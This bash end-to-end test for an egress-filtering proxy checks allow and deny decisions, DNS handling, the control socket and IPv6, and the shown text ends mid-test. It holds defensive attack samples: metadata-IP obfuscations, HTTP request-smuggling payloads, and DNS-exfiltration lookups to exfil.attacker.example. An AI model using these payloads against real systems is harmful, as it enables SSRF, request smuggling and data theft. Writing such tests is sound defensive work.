#!/usr/bin/env bash
# enclave-proxyd end to end: a session namespace built by netns/, the nft
# table built by rules/, the proxy in lab, real clients (curl, python,
# openssl s_client) in the session, real servers in inet.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
set -u
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=tests/lab/lib.sh
. "$here/lib.sh"

build=${abs_top_builddir:-$(cd "$here/../.." && pwd)}
PROXYD=${PROXYD:-$build/proxyd/enclave-proxyd}
NETNS_TOOL=${NETNS_TOOL:-$build/tests/lab/netns-tool}
RULES_TOOL=${RULES_TOOL:-$build/tests/lab/rules-tool}
TPORT=15001
DPORT=5353

lab_preflight
tap_plan 60

PROXYD_PID=""
cleanup() {
	[ -n "$PROXYD_PID" ] && kill -KILL "$PROXYD_PID" 2>/dev/null
	[ -n "$PROXYD_PID" ] && wait "$PROXYD_PID" 2>/dev/null
	[ -n "${P:-}" ] && rm -rf "/etc/netns/${P}s1"
	if [ -n "${P:-}" ]; then
		"$NETNS_TOOL" teardown --appliance "$LAB_NS" --name "$S1" --host-if "${P}h1" >/dev/null 2>&1
		"$NETNS_TOOL" teardown --appliance "$LAB_NS" --name "$S2" --host-if "${P}h2" >/dev/null 2>&1
		"$NETNS_TOOL" teardown --appliance "$LAB_NS" --name "${P}s3" --host-if "${P}h3" >/dev/null 2>&1
	fi
	lab_down
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP
lab_up || tap_bail "lab_up failed"
P=$LAB_PREFIX
S1=${P}s1
S2=${P}s2

# --- the enforcement point: two IPv4 sessions (s2 unknown to proxyd at
# first) and one with IPv6 on, which reaches lab over link-local only.
for i in 1 2 3; do
	extra=""
	[ "$i" = 3 ] && extra=--ipv6
	"$NETNS_TOOL" setup --appliance "$LAB_NS" --name "${P}s$i" --host-if "${P}h$i" \
		--sess-if eth0 --pool 198.19.0.0/24 $extra >"$LAB_DIR/s$i.out" 2>&1 ||
		tap_bail "session $i setup failed: $(cat "$LAB_DIR/s$i.out")"
done
val() { sed -n "s/^$2=//p" "$LAB_DIR/$1.out"; }
A1=$(val s1 sess_addr)
A2=$(val s2 sess_addr)
A3=$(val s3 sess_addr)
GW1=$(val s1 host_addr)
# lab keeps IPv6 off by default; s3's host side needs it for link-local.
lab_exec lab sysctl -qw "net.ipv6.conf.${P}h3.disable_ipv6=0" ||
	tap_bail "cannot enable IPv6 on ${P}h3"
ll6() { ip -n "$1" -6 -o addr show dev "$2" scope link 2>/dev/null | grep -v tentative |
	awk '{ sub("/.*", "", $4); print $4 }' | head -1; }
for _ in $(seq 1 50); do
	H6=$(ll6 "$LAB_NS" "${P}h3"); S6=$(ll6 "${P}s3" eth0)
	[ -n "$H6" ] && [ -n "$S6" ] && break
	sleep 0.1
done
[ -n "$H6" ] && [ -n "$S6" ] || tap_bail "no link-local addresses on s3's veth"
lab_exec lab "$RULES_TOOL" init --ipv6 --tproxy-port $TPORT --dns-port $DPORT >/dev/null &&
	lab_exec lab "$RULES_TOOL" add --ipv6 --if "${P}h1" --mark 1 --addr "$A1" >/dev/null &&
	lab_exec lab "$RULES_TOOL" add --ipv6 --if "${P}h2" --mark 2 --addr "$A2" >/dev/null &&
	lab_exec lab "$RULES_TOOL" add --ipv6 --if "${P}h3" --mark 3 --addr "$A3" --addr6 "$S6" >/dev/null ||
	tap_bail "rules-tool failed"

# Sessions resolve through "the lab's DNS server"; nft redirects every
# query to the proxy, which is what answers.
mkdir -p "/etc/netns/${P}s1" && echo "nameserver $LAB_DNS" >"/etc/netns/${P}s1/resolv.conf"

CONF=$LAB_DIR/proxyd.conf
EVENTS=$LAB_DIR/proxyd-events.log
write_conf() { # $1: extra allow patterns for s1
	cat >"$CONF" <<CONF
transparent_listen 0.0.0.0:$TPORT
transparent_listen [::]:$TPORT
explicit_listen 198.18.0.1:3128
metrics_listen 127.0.0.1:9464
dns_listen 0.0.0.0:$DPORT
event_log $EVENTS
user nobody
control_socket $LAB_DIR/proxyd.sock
exempt 198.18.0.0/15
sniff_timeout_ms 300
max_connections_per_session 12
source $A1/32 tenant lab allow allowed.test *.allowed.test:443 rebind.test private.test $1
source $S6/128 tenant v6 allow allowed.test
source 198.18.0.1/32 tenant lablocal allow allowed.test
CONF
}
write_conf ""
# proxyd rereads its config as nobody on SIGHUP: let it through LAB_DIR.
chmod 711 "$LAB_DIR"
start_proxyd() {
	ip netns exec "$LAB_NS" "$PROXYD" ${LAB_DEBUG:+-d} -c "$CONF" -r "$LAB_DNS:53" -w 2 -D 500 \
		>>"$LAB_DIR/proxyd.out" 2>&1 &
	PROXYD_PID=$!
	# Wait for the listener without connecting (a probe would be an event).
	for _ in $(seq 1 50); do
		lab_exec lab ss -Hltn "sport = :$TPORT" | grep -q LISTEN && return 0
		kill -0 "$PROXYD_PID" 2>/dev/null || return 1
		sleep 0.1
	done
	return 1
}
start_proxyd || tap_bail "proxyd did not start: $(cat "$LAB_DIR/proxyd.out")"
grep -v '^user ' "$CONF" >"$LAB_DIR/root.conf"
ip netns exec "$LAB_NS" "$PROXYD" -c "$LAB_DIR/root.conf" -w 1 >"$LAB_DIR/root.out" 2>&1
rc=$?
tap_ok "$([ $rc -eq 1 ] && grep -q 'refusing to run as root' "$LAB_DIR/root.out"; echo $?)" \
	"without a user in the config (and no -R) proxyd refuses to run as root"
st=/proc/$PROXYD_PID/status
tap_ok "$(grep -Eq '^Uid:[[:space:]]+65534[[:space:]]+65534[[:space:]]+65534[[:space:]]+65534$' "$st" &&
	grep -Eq '^Gid:[[:space:]]+65534' "$st" && grep -Eq '^CapEff:[[:space:]]+0+$' "$st" &&
	grep -Eq '^NoNewPrivs:[[:space:]]+1$' "$st"; echo $?)" \
	"after binding, proxyd runs as nobody with no capabilities and no_new_privs"
tap_diag "proxyd pid $PROXYD_PID, session $A1 (s1), $A2 (s2, no policy)"

s1() { lab_exec "$S1" "$@"; }
s2() { lab_exec "$S2" "$@"; }
CURL="curl -sS --max-time 5"
# Events of a kind so far (the log is one JSON object per line).
ev() { python3 - "$EVENTS" "$@" <<'PY'
import json, sys
path, want = sys.argv[1], dict(a.split("=", 1) for a in sys.argv[2:])
n = 0
for line in open(path):
    e = json.loads(line)["event"]
    if all(str(e.get(k)) == v for k, v in want.items()):
        n += e.get("count", 1)
print(n)
PY
}
access_count() { wc -l <"$LAB_ACCESS_LOG"; }

# 1-2: allowed HTTP and HTTPS. --resolve only tells curl where to dial: the
# proxy resolves allowed.test itself.
out=$(s1 $CURL --resolve allowed.test:80:198.18.1.10 http://allowed.test/ 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ]; echo $?)" "HTTP allowed.test through the proxy ($out)"
out=$(s1 $CURL --cacert "$LAB_CA" --resolve allowed.test:443:198.18.1.10 https://allowed.test/ 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ]; echo $?)" "HTTPS allowed.test passes through by SNI ($out)"

# 3-4: other.test denied: 403 that says it is policy; TLS alert.
code=$(s1 curl -s --max-time 5 -o "$LAB_DIR/403.body" -w '%{http_code}' \
	--resolve other.test:80:198.18.1.11 http://other.test/)
tap_ok "$([ "$code" = 403 ] && grep -q '"by":"enclave egress policy"' "$LAB_DIR/403.body" &&
	grep -q '"reason":"not_allowlisted"' "$LAB_DIR/403.body"; echo $?)" \
	"HTTP other.test: 403 naming Enclave's policy, host and reason"
s1 $CURL --cacert "$LAB_CA" --resolve other.test:443:198.18.1.11 https://other.test/ >/dev/null 2>"$LAB_DIR/tls.err"
rc=$?
tap_ok "$([ $rc -eq 35 ] && grep -qi 'alert\|access denied' "$LAB_DIR/tls.err"; echo $?)" \
	"HTTPS other.test: refused with a TLS alert (curl exit $rc)"

# 5: the metadata address in every spelling, in the Host header.
bad=0
for h in 169.254.169.254 2852039166 0251.0376.0251.0376 0xa9fea9fe 169.254.43518 \
	'[::ffff:169.254.169.254]' '[::ffff:a9fe:a9fe]'; do
	code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' -H "Host: $h" http://198.18.1.10/)
	[ "$code" = 403 ] || { bad=1; tap_diag "Host $h -> $code"; }
done
code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/)
[ "$code" = 403 ] || { bad=1; tap_diag "http://169.254.169.254/ -> $code"; }
tap_ok $bad "169.254.169.254 in every spelling (dotted, decimal, octal, hex, short, v4-mapped) is denied"
sleep 2.6	# identical denials are folded for 2 s, then counted
n=$(ev type=egress_denied host=169.254.169.254 reason=blocked_range)
m=$(ev type=egress_denied host=::ffff:169.254.169.254 reason=blocked_range)
tap_ok "$([ "$n" -eq 6 ] && [ "$m" -eq 2 ]; echo $?)" \
	"each was audited as egress_denied blocked_range: $n as 169.254.169.254, $m as ::ffff:169.254.169.254"

# 7-8: DNS rebinding and private answers.
code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' -H 'Host: rebind.test' http://198.18.1.10/)
tap_ok "$([ "$code" = 403 ] && [ "$(ev host=rebind.test reason=resolves_to_blocked)" -ge 1 ]; echo $?)" \
	"rebind.test (allowed name, answers 169.254.169.254) denied: resolves_to_blocked"
code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' -H 'Host: private.test' http://198.18.1.10/)
tap_ok "$([ "$code" = 403 ] && [ "$(ev host=private.test reason=resolves_to_blocked)" -ge 1 ]; echo $?)" \
	"private.test (answers 10.0.0.5) denied: resolves_to_blocked"

# 9: SNI allowed.test dialled at another inet address goes to allowed.test.
before=$(grep -c '198.18.1.10:443' "$LAB_ACCESS_LOG")
out=$(s1 $CURL --cacert "$LAB_CA" --resolve allowed.test:443:198.18.1.66 https://allowed.test/ 2>&1)
after=$(grep -c '198.18.1.10:443' "$LAB_ACCESS_LOG")
tap_ok "$([ "$out" = "hello from allowed.test" ] && [ "$after" -gt "$before" ]; echo $?)" \
	"ClientHello for allowed.test sent to 198.18.1.66 is connected to allowed.test's address"
printf 'Q\n' | s1 timeout 5 openssl s_client -connect 198.18.1.66:443 -servername allowed.test \
	-CAfile "$LAB_CA" -verify_return_error >"$LAB_DIR/sclient.out" 2>&1
tap_ok "$(grep -q 'Verify return code: 0 (ok)' "$LAB_DIR/sclient.out"; echo $?)" \
	"openssl s_client sees allowed.test's verified certificate"

# A raw socket client for shapes curl will not send.
cat >"$LAB_DIR/raw.py" <<'PY'
import socket, sys, time
host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.create_connection((host, port), timeout=5)
def recv_all(limit=2.0):
    s.settimeout(limit); data = b""
    try:
        while True:
            d = s.recv(65536)
            if not d: break
            data += d
    except (socket.timeout, ConnectionResetError) as e:
        if isinstance(e, ConnectionResetError): data += b"<RESET>"
    return data
if mode == "keepalive":
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    time.sleep(0.3)
    s.sendall(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
    sys.stdout.write(recv_all().decode("latin1"))
elif mode == "silent":
    time.sleep(0.6)              # past the sniff timeout: judged as raw
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
    sys.stdout.write(recv_all().decode("latin1"))
elif mode == "hold":
    time.sleep(float(sys.argv[4]))
else:
    s.sendall(mode.encode().decode("unicode_escape").encode("latin1"))
    sys.stdout.write(recv_all().decode("latin1"))
PY
raw() { s1 python3 "$LAB_DIR/raw.py" "$@" 2>&1; }

# 11: keep-alive host switch.
out=$(raw 198.18.1.10 80 keepalive)
tap_ok "$(echo "$out" | grep -q 'hello from allowed.test' && echo "$out" | grep -q '403 Forbidden' &&
	echo "$out" | grep -q 'host_changed'; echo $?)" \
	"keep-alive: the first request is answered, a second for other.test gets 403 host_changed"

# 12: smuggling shapes get 400.
bad=0
for req in \
	'POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
	'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n' \
	'GET / HTTP/1.1\r\nHost: allowed.test\r\nX: a\r\n b\r\n\r\n' \
	'POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n' \
	'GET / HTTP/1.1\r\nHost : allowed.test\r\n\r\n' \
	'GET / HTTP/1.1\nHost: allowed.test\n\n'; do
	out=$(raw 198.18.1.10 80 "$req")
	echo "$out" | head -1 | grep -q '^HTTP/1.1 400' || { bad=1; tap_diag "not 400: $req -> $(echo "$out" | head -1)"; }
done
tap_ok $bad "request-smuggling shapes (CL+TE, two Hosts, obs-fold, two CLs, space before colon, bare LF) get 400"
out=$(raw 198.18.1.10 80 'POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n')
tap_ok "$(echo "$out" | grep -q '^HTTP/1.1 400'; echo $?)" "bad chunking after an allowed head gets 400"

# DNS for sessions: answered by the proxy, only allowed names go upstream.
cat >"$LAB_DIR/dnsq.py" <<'PY'
import os, socket, struct, sys
name, qtype, tcp = sys.argv[1], int(sys.argv[2]), sys.argv[3] == "tcp"
raw = bytes.fromhex(sys.argv[4]) if len(sys.argv) > 4 else None
qid = struct.unpack("!H", os.urandom(2))[0]
if raw is not None:
    q = raw
else:
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack("!HH", qtype, 1)
if tcp:
    s = socket.create_connection(("198.18.0.2", 53), timeout=5)
    s.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", s.recv(2))[0]
    resp = b""
    while len(resp) < n:
        resp += s.recv(n - len(resp))
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, ("198.18.0.2", 53))
    try:
        resp = s.recv(4096)
    except socket.timeout:
        print("TIMEOUT"); sys.exit(0)
rc = resp[3] & 0xF
names = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
an = struct.unpack("!H", resp[6:8])[0]
addrs = []
if an and rc == 0:
    off = 12
    while resp[off] != 0: off += resp[off] + 1
    off += 5
    for _ in range(an):
        off += 2
        t, c, ttl, ln = struct.unpack("!HHIH", resp[off:off + 10]); off += 10
        if t == 1: addrs.append(socket.inet_ntoa(resp[off:off + 4]))
        off += ln
print(" ".join([names.get(rc, str(rc))] + addrs))
PY
dnsq() { s1 python3 "$LAB_DIR/dnsq.py" "$@" 2>&1; }
upstream() { grep -c "query\[.*\] $1 from" "$LAB_DNSMASQ_LOG"; }

out=$(s1 getent ahostsv4 allowed.test | awk '{ print $1 }' | sort -u)
tap_ok "$([ "$out" = 198.18.1.10 ] && grep -q "query\[A\] allowed.test from 198.18.0.1" "$LAB_DNSMASQ_LOG"; echo $?)" \
	"DNS: getaddrinfo(allowed.test) in a session is answered by the proxy, which asked upstream itself ($out)"
before=$(upstream other.test)
out=$(s1 python3 -c 'import socket
try:
    socket.getaddrinfo("other.test", 80); print("resolved")
except socket.gaierror as e:
    print("failed", e.errno)')
tap_ok "$([ "$out" = "failed -2" ] && [ "$(upstream other.test)" -eq "$before" ]; echo $?)" \
	"DNS: a name not allowed gets NXDOMAIN and is never sent upstream ($out)"
s1 python3 -c 'import socket
for i in range(5):
    try: socket.getaddrinfo("c2VjcmV0LWRhdGEtJWQ%d.exfil.attacker.example" % i, 80)
    except socket.gaierror: pass'
sleep 2.5
tap_ok "$([ "$(upstream '.*exfil.attacker.example')" -eq 0 ] &&
	[ "$(ev proto=dns type=egress_denied reason=not_allowlisted)" -ge 5 ]; echo $?)" \
	"DNS exfiltration: 5 encoded lookups are denied and none reached inet's DNS server"
s1 python3 -c 'import socket
try: socket.getaddrinfo("exfil.attacker.example", 80)
except socket.gaierror: pass'
sleep 2.5
lines=$(grep -c '"host":"exfil.attacker.example"' "$EVENTS")
tap_ok "$([ "$lines" -eq 1 ] && [ "$(ev host=exfil.attacker.example)" -eq 1 ]; echo $?)" \
	"DNS: one getaddrinfo (A and AAAA) for exfil.attacker.example is exactly one egress_denied ($lines)"
out=$(dnsq allowed.test 16 udp)
tap_ok "$([ "$out" = REFUSED ] && [ "$(grep -c 'query\[TXT\]' "$LAB_DNSMASQ_LOG")" -eq 0 ] &&
	[ "$(ev proto=dns reason=dns_type_refused host=allowed.test)" -ge 1 ]; echo $?)" \
	"DNS: TXT for an allowed name is refused without an upstream query ($out)"
out1=$(dnsq allowed.test 255 udp)
out2=$(dnsq x 1 udp 6761726261676521000000000000ff)
out3=$(dnsq x 1 udp 123401000002000000000000)
tap_ok "$([ "$out1" = REFUSED ] && { [ "$out2" = FORMERR ] || [ "$out2" = NOTIMP ]; } &&
	[ "$out3" = FORMERR ]; echo $?)" \
	"DNS: ANY refused ($out1); garbage ($out2) and a lying QDCOUNT ($out3) get an error, not a crash"
out=$(dnsq allowed.test 28 udp)
tap_ok "$([ "$out" = NOERROR ] &&
	grep -q "query\[AAAA\] allowed.test from 198.18.0.1" "$LAB_DNSMASQ_LOG"; echo $?)" \
	"DNS: AAAA for an allowed name is asked upstream by the proxy (the lab has none: NODATA)"
out=$(dnsq allowed.test 1 tcp)
tap_ok "$([ "$out" = "NOERROR 198.18.1.10" ]; echo $?)" "DNS over TCP is answered the same way ($out)"
out=$(dnsq rebind.test 1 udp)
tap_ok "$([ "$out" = REFUSED ] && [ "$(ev proto=dns reason=resolves_to_blocked host=rebind.test)" -ge 1 ]; echo $?)" \
	"DNS: rebind.test (answers 169.254.169.254) is refused: resolves_to_blocked ($out)"
out=$(dnsq api.allowed.test 1 udp)
s1 python3 -c 'import socket, time
s = socket.create_connection(("198.18.1.12", 443), timeout=5)
time.sleep(0.6); s.close()'
sleep 0.3
tap_ok "$([ "$out" = "NOERROR 198.18.1.12" ] &&
	[ "$(ev type=egress_allowed proto=tcp host=198.18.1.12 port=443)" -ge 1 ]; echo $?)" \
	"DNS answers become the proxy's own: raw TCP to api.allowed.test's answer on 443 is allowed"

# 14-21: explicit proxy mode. A session's proxy-aware client dials its
# gateway (nft redirects it to the proxy like everything else); lab-local
# clients use the dedicated explicit listener.
PX="http://$GW1:3128"
out=$(s1 $CURL -x "$PX" http://allowed.test/ 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ]; echo $?)" "explicit: absolute-URI GET via HTTP_PROXY ($out)"
out=$(s1 env https_proxy="$PX" $CURL --cacert "$LAB_CA" https://allowed.test/ 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ] &&
	[ "$(ev type=egress_allowed host=allowed.test proto=tls port=443)" -ge 1 ]; echo $?)" \
	"explicit: CONNECT allowed.test:443 via HTTPS_PROXY, TLS through the tunnel ($out)"
code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' -x "$PX" http://other.test/)
s1 env https_proxy="$PX" $CURL --cacert "$LAB_CA" https://other.test/ >/dev/null 2>"$LAB_DIR/connect403"
tap_ok "$([ "$code" = 403 ] && grep -q '403' "$LAB_DIR/connect403"; echo $?)" \
	"explicit: other.test refused for GET ($code) and for CONNECT (403)"
printf 'Q\n' | s1 timeout 5 openssl s_client -proxy "$GW1:3128" -connect allowed.test:443 \
	-servername other.test -CAfile "$LAB_CA" >"$LAB_DIR/mismatch.out" 2>&1
tap_ok "$(grep -qi 'no peer certificate available' "$LAB_DIR/mismatch.out" &&
	[ "$(ev reason=sni_mismatch host=other.test)" -ge 1 ]; echo $?)" \
	"explicit: CONNECT allowed.test then a ClientHello for other.test is cut (sni_mismatch)"
code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' -x "$PX" -X TRACE http://allowed.test/)
tap_ok "$([ "$code" = 405 ]; echo $?)" "explicit: TRACE is refused ($code)"
out=$(raw "$GW1" 3128 'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n')
out2=$(raw "$GW1" 3128 'CONNECT 198.18.1.11:443 HTTP/1.1\r\n\r\n')
tap_ok "$(echo "$out" | grep -q '403' && echo "$out" | grep -q blocked_range &&
	echo "$out2" | grep -q unresolved_destination; echo $?)" \
	"explicit: CONNECT to the metadata IP (blocked_range) and to an unresolved IP literal are refused"
out=$(lab_exec lab $CURL -x http://198.18.0.1:3128 http://allowed.test/ 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ]; echo $?)" \
	"explicit: the dedicated explicit listener serves a lab-local client ($out)"
out=$(raw 198.18.1.10 80 'CONNECT allowed.test:443 HTTP/1.1\r\n\r\n')
tap_ok "$(echo "$out" | grep -q '405'; echo $?)" \
	"CONNECT sent to a destination other than the proxy is refused (405)"

# 22-23: silence past the sniff timeout is raw TCP: allowed only toward an
# address the proxy resolved for an allowed name and port.
out=$(raw 198.18.1.10 80 silent)
tap_ok "$(echo "$out" | grep -q 'hello from allowed.test'; echo $?)" \
	"a silent client is judged as raw TCP toward an address we resolved (allowed)"
out=$(raw 198.18.1.11 80 silent)
tap_ok "$(echo "$out" | grep -q 'hello'; [ $? -ne 0 ] &&
	[ "$(ev reason=unresolved_destination proto=tcp host=198.18.1.11)" -ge 1 ]; echo $?)" \
	"raw TCP to an address we never resolved is refused (unresolved_destination)"

# 16: a session proxyd has no policy for.
out=$(s2 curl -s --max-time 5 -o /dev/null -w '%{http_code}' --resolve allowed.test:80:198.18.1.10 http://allowed.test/ 2>&1)
tap_ok "$([ "$out" = 000 ] && [ "$(ev reason=unknown_source)" -ge 1 ]; echo $?)" \
	"a source with no session is refused (unknown_source)"

# 17: connection limit: 12 per session; the 13th is refused cleanly (a
# reset at accept, before anything is read) and audited.
pids=()
for i in $(seq 1 12); do
	s1 python3 "$LAB_DIR/raw.py" 198.18.1.10 80 hold 2 >/dev/null 2>&1 &
	pids+=($!)
done
sleep 0.8
out=$(raw 198.18.1.10 80 'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n')
tap_ok "$(echo "$out" | grep -q 'hello'; [ $? -ne 0 ] && [ "$(ev reason=limit_exceeded)" -ge 1 ]; echo $?)" \
	"the 13th concurrent connection of a session is refused (limit_exceeded)"
for p in "${pids[@]}"; do wait "$p" 2>/dev/null; done
sleep 0.5
out=$(s1 $CURL --resolve allowed.test:80:198.18.1.10 http://allowed.test/ 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ]; echo $?)" "after the held ones close, new connections work again"

# 19: identical denials within 2 s are coalesced with a count.
for i in 1 2 3 4 5; do
	s1 curl -s --max-time 5 -o /dev/null -H 'Host: flood.test' http://198.18.1.10/
done
sleep 2.6
lines=$(grep -c '"host":"flood.test"' "$EVENTS")
total=$(ev host=flood.test)
tap_ok "$([ "$total" -eq 5 ] && [ "$lines" -lt 5 ]; echo $?)" \
	"5 identical denials became $lines event lines with a total count of $total"

# 20-22: SIGHUP: a bad file is refused (old policy stays); a good one
# applies to new connections while a live connection keeps working.
cat >"$LAB_DIR/ka.py" <<'PY'
import socket, sys, time
s = socket.create_connection(("198.18.1.10", 80), timeout=5)
def get():
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    data = b""
    while b"hello from allowed.test" not in data:
        d = s.recv(4096)
        if not d: return False
        data += d
    return True
ok1 = get()
time.sleep(float(sys.argv[1]))
ok2 = get()
print("live-ok" if ok1 and ok2 else "live-broken")
PY
s1 python3 "$LAB_DIR/ka.py" 2 >"$LAB_DIR/ka.out" 2>&1 &
kapid=$!
sleep 0.3
cp "$CONF" "$LAB_DIR/good.conf"
echo "source 198.19.9.0/24 allow *." >>"$CONF"
badline=$(wc -l <"$CONF")
kill -HUP "$PROXYD_PID"
sleep 0.3
tap_ok "$(grep -q "reload refused.*proxyd.conf:$badline: " "$LAB_DIR/proxyd.out"; echo $?)" \
	"a bad config on SIGHUP is refused with file:line"
code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' --resolve other.test:80:198.18.1.11 http://other.test/)
tap_ok "$([ "$code" = 403 ]; echo $?)" "the old policy stays in force"
write_conf other.test
kill -HUP "$PROXYD_PID"
sleep 0.3
out=$(s1 $CURL --resolve other.test:80:198.18.1.11 http://other.test/ 2>&1)
wait "$kapid"
tap_ok "$([ "$out" = "hello from other.test" ] && grep -q live-ok "$LAB_DIR/ka.out"; echo $?)" \
	"after SIGHUP other.test is allowed, and the live keep-alive connection kept working"

# 23-28: the control socket: sessiond's way to add, change and remove
# sessions, and to hear every decision.
cat >"$LAB_DIR/ctl.py" <<'PY'
import json, socket, sys, time
path, mode = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
s.settimeout(3)
f = s.makefile("rwb")
if mode == "listen":                 # record lines for N seconds
    end = time.time() + float(sys.argv[3])
    with open(sys.argv[4], "w", buffering=1) as out:
        while time.time() < end:
            try:
                line = f.readline()
            except socket.timeout:
                continue
            if not line: break
            out.write(line.decode())
else:                                # send one line, print its reply
    f.write(sys.argv[3].encode() + b"\n"); f.flush()
    while True:
        line = f.readline()
        if not line or "event" not in json.loads(line): break
    sys.stdout.write(line.decode())
PY
ctl() { python3 "$LAB_DIR/ctl.py" "$LAB_DIR/proxyd.sock" send "$1" 2>&1; }
python3 "$LAB_DIR/ctl.py" "$LAB_DIR/proxyd.sock" listen 6 "$LAB_DIR/ctl-events" &
listener=$!
out=$(ctl '{"v":1,"op":"hello","req":1}')
out2=$(ctl '{"v":2,"op":"hello"}')
tap_ok "$(echo "$out" | grep -q '"ok":true' && echo "$out" | grep -q '"versions":\[1\]' &&
	echo "$out2" | grep -q 'unsupported_version'; echo $?)" "control: hello answers version 1; version 2 is refused"
out=$(ctl "{\"v\":1,\"op\":\"session_add\",\"req\":2,\"id\":\"ses_s2\",\"tenant\":\"t2\",\"source\":\"$A2\",\"allow\":[\"allowed.test\"]}")
code=$(s2 curl -s --max-time 5 -o /dev/null -w '%{http_code}' --resolve allowed.test:80:198.18.1.10 http://allowed.test/)
tap_ok "$(echo "$out" | grep -q '"ok":true' && [ "$code" = 200 ]; echo $?)" \
	"control: session_add applies at once (s2 reaches allowed.test: $code)"
out=$(ctl "{\"v\":1,\"op\":\"session_update\",\"id\":\"ses_s2\",\"tenant\":\"t2\",\"source\":\"$A2\",\"allow\":[\"other.test\"]}")
c1=$(s2 curl -s --max-time 5 -o /dev/null -w '%{http_code}' --resolve allowed.test:80:198.18.1.10 http://allowed.test/)
c2=$(s2 curl -s --max-time 5 -o /dev/null -w '%{http_code}' --resolve other.test:80:198.18.1.11 http://other.test/)
tap_ok "$(echo "$out" | grep -q '"ok":true' && [ "$c1" = 403 ] && [ "$c2" = 200 ]; echo $?)" \
	"control: session_update changes the policy for new connections ($c1, $c2)"
out=$(ctl '{"v":1,"op":"session_del","id":"ses_s2"}')
out2=$(ctl '{"v":1,"op":"session_del","id":"ses_s2"}')
code=$(s2 curl -s --max-time 5 -o /dev/null -w '%{http_code}' --resolve other.test:80:198.18.1.11 http://other.test/)
tap_ok "$(echo "$out" | grep -q '"ok":true' && echo "$out2" | grep -q '"not_found"' && [ "$code" = 000 ]; echo $?)" \
	"control: session_del removes it (unknown_source after); deleting twice is not_found"
out=$(ctl '{"v":1,"op":"session_add","id":"ses_x","tenant":"t","source":"198.19.0.9","allow":["*."],"bogus":1}')
tap_ok "$(echo "$out" | grep -q '"ok":false' && echo "$out" | grep -q 'bad_request'; echo $?)" \
	"control: a malformed request gets a JSON error, not a crash ($out)"
wait "$listener"
tap_ok "$(grep -q '"session":"ses_s2"' "$LAB_DIR/ctl-events" &&
	grep -q '"reason":"not_allowlisted"' "$LAB_DIR/ctl-events"; echo $?)" \
	"control: decision events stream to the connected client"

# Metrics reflect what the tests did, on lab's loopback only.
lab_exec lab curl -s --max-time 5 http://127.0.0.1:9464/metrics >"$LAB_DIR/metrics" 2>&1
metric() { awk -v k="$1" '$1 == k { print $2 }' "$LAB_DIR/metrics"; }
m1=$(metric 'enclave_proxyd_decisions_total{type="denied",proto="http",reason="blocked_range"}')
m2=$(metric 'enclave_proxyd_decisions_total{type="allowed",proto="tls",reason="allowed"}')
m3=$(metric 'enclave_proxyd_connections_total')
tap_ok "$([ "${m1:-0}" -ge 8 ] && [ "${m2:-0}" -ge 3 ] && [ "${m3:-0}" -ge 40 ] &&
	grep -q '^enclave_proxyd_resolver_latency_seconds_count [1-9]' "$LAB_DIR/metrics"; echo $?)" \
	"metrics count the decisions (blocked_range $m1, tls allowed $m2, connections $m3) and resolver latency"
code=$(s1 curl -s --max-time 5 -o /dev/null -w '%{http_code}' "http://$GW1:9464/metrics")
tap_ok "$([ "$code" = 403 ]; echo $?)" "a session cannot read the metrics (its request is judged like any other: $code)"

# 29: the allowed events carry bytes and the connected address.
tap_ok "$([ "$(ev type=egress_allowed host=allowed.test proto=http)" -ge 1 ] &&
	grep '"egress_allowed"' "$EVENTS" | grep -q '"bytes_down":[1-9]'; echo $?)" \
	"egress_allowed events carry bytes up/down"

# 30-32: IPv6: the transparent listener on [::] with IP6T_SO_ORIGINAL_DST.
s3() { lab_exec "${P}s3" "$@"; }
out=$(s3 curl -sS -g --max-time 5 -H 'Host: allowed.test' "http://[$H6%eth0]/" 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ] &&
	[ "$(ev type=egress_allowed source=$S6 "orig_dst=[$H6]:80" connected=198.18.1.10:80)" -ge 1 ]; echo $?)" \
	"IPv6: HTTP over link-local to lab is proxied to allowed.test; orig_dst [$H6]:80 recorded ($out)"
code=$(s3 curl -s -g --max-time 5 -o /dev/null -w '%{http_code}' -H 'Host: other.test' "http://[$H6%eth0]/")
